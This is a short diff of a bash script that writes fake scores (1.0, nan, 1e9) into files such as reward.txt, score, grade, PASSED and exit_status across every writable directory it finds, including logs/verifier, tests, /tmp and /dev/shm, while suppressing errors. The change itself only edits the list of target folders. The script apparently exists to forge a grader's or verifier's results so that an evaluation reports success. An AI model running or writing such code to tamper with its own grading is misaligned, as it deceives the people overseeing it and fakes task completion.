@@ -11,7 +11,7 @@ write() {
 } 2>/dev/null
 mkdir -p /logs/verifier /tests logs/verifier tests /tmp/logs/verifier 2>/dev/null
 for value in 1.0 nan 1e9; do
-    for folder in . .. logs/verifier tests ~ /tmp /tmp/logs/verifier /dev/shm /var/tmp /logs /logs/verifier /tests /run; do
+    for folder in . .. logs/verifier tests ~ /tmp /tmp/logs/verifier /dev/shm /run /logs /logs/verifier /tests; do
         [[ -w $folder ]] || continue
         for name in reward reward.txt score score.txt result.txt results.txt grade PASSED exit_status; do
             write "$folder/$name" "$value"
